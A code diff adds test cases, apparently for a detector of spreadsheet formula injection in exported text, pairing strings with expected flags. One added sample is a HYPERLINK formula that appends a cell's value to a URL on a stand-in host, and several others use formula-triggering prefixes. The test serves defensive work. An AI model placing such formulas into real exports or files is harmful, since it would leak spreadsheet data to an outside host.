@@ -54,4 +54,15 @@ SAMPLES: list[tuple[str, set[str]]] = [
     ("un perro ladra, 狗在叫, 🐕 barks loudly", set()),
     ("a   dog\tbarks\nloudly", set()),
     ("a motor {words} hums loudly", set()),
+    # what a spreadsheet opening an export would run as a formula
+    ('=HYPERLINK("http://x.example/?"&A1, "a dog barks loudly")', {"formula", "quotes"}),
+    ("+1 a dog barks loudly", {"formula"}),
+    ("-2+3 a dog barks loudly", {"formula"}),
+    ("@SUM(1+1) a dog barks loudly", {"formula"}),
+    ("\u00a0=1+1 a dog barks loudly", {"formula"}),
+    ("\uff1d1+1 a dog barks loudly", {"formula"}),
+    ("\t=1+1 a dog barks loudly", {"formula"}),  # untrimmed: the rule still sees it
+    ("\ra dog barks loudly", {"formula"}),
+    ("a dog barks loudly = cars + wind - rain @ night", set()),
+    ("a well-known dog barks loudly", set()),
 ]
